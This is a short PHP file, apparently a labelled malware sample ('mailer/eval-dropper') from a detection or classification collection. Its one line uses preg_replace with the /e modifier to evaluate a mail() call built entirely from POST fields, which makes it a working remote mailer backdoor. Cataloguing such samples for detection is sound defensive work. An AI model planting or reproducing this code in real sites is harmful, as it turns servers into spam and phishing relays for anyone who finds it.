<?php
/* Family: mailer/eval-dropper
 * Style: regex replacement evaluator
 * Trait: preg_replace with the e modifier evaluating a mail call, arguments from POST */
preg_replace('/.*/e', 'mail($_POST["to"], $_POST["subject"], $_POST["body"], $_POST["headers"])', '');
